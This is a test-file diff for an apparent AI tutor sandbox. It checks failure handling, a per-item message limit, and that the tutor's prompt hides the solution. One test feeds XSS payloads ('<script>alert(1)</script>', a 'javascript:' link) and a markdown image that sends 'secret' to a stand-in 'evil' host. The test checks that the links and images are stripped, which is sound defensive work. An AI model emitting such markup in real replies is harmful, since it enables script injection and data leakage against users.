@@ -3,6 +3,7 @@ import { sql } from 'drizzle-orm';
 import { beforeEach, describe, expect, it } from 'vitest';
 import { type SignedUp, testApp } from '../../../test/kit/app.ts';
 import { deal, keyOf, start, wrongLetter } from '../../../test/kit/practice.ts';
+import { sandboxToken } from '../../../test/kit/start.ts';
 import { rowsOf } from '../../platform/db/db.ts';
 import { itemsOf } from '../content/index.ts';
 
@@ -243,4 +244,49 @@ it('doubts are exported with the account, mine alone, and go with it', async () 
       union all select 1 from doubt_messages where user_id = ${student.user.id}`),
   );
   expect(left).toEqual([]);
+});
+
+describe('the sandbox’s tutor', () => {
+  const control = (mode: object) => app.post('//__sandbox/tutor', mode, { token: sandboxToken });
+  const state = async () => (await app.get('//__sandbox/tutor', { token: sandboxToken })).body;
+
+  it('S046 a failure costs nothing, and the same doubt is answered afterwards', async () => {
+    await answerIt();
+    await control({ mode: 'fail' });
+    const { status, body } = await ask('explain');
+    expect([status, body.success, body.message_count, body.reply]).toEqual([200, false, 0, null]);
+    expect(body.error).toBe('Failed to send your doubt. Please try again.');
+    await control({ mode: 'normal' });
+    expect((await ask('explain')).body).toMatchObject({ success: true, message_count: 1 });
+  });
+
+  it('S047 a fixed text is shown without addresses and pictures', async () => {
+    await answerIt();
+    await control({
+      mode: 'text',
+      text: '<script>alert(1)</script> [x](javascript:alert(1)) ![x](http://evil/?q=secret)',
+    });
+    const { body } = await ask('explain');
+    await control({ mode: 'normal' });
+    expect(body.reply.content).toBe('<script>alert(1)</script> x x');
+  });
+
+  it('the eleventh message does not reach the tutor; before the answer its prompt holds no key and no solution', async () => {
+    const item = await solutionOf();
+    await ask('what is the answer');
+    const [prompt] = (await state()).prompts.slice(-1);
+    expect(prompt.system).toContain(item.stem);
+    for (const secret of [
+      item.solution.solution_approach,
+      item.solution.snap_read,
+      item.solution.steps[0]?.says,
+      'Key:',
+    ])
+      expect(JSON.stringify(prompt)).not.toContain(secret);
+    await answerIt();
+    for (let i = 1; i < most; i += 1) await ask(`explain step ${i}`);
+    const { calls } = await state();
+    expect((await ask('once more')).body.is_locked).toBe(true);
+    expect((await state()).calls).toBe(calls);
+  });
 });
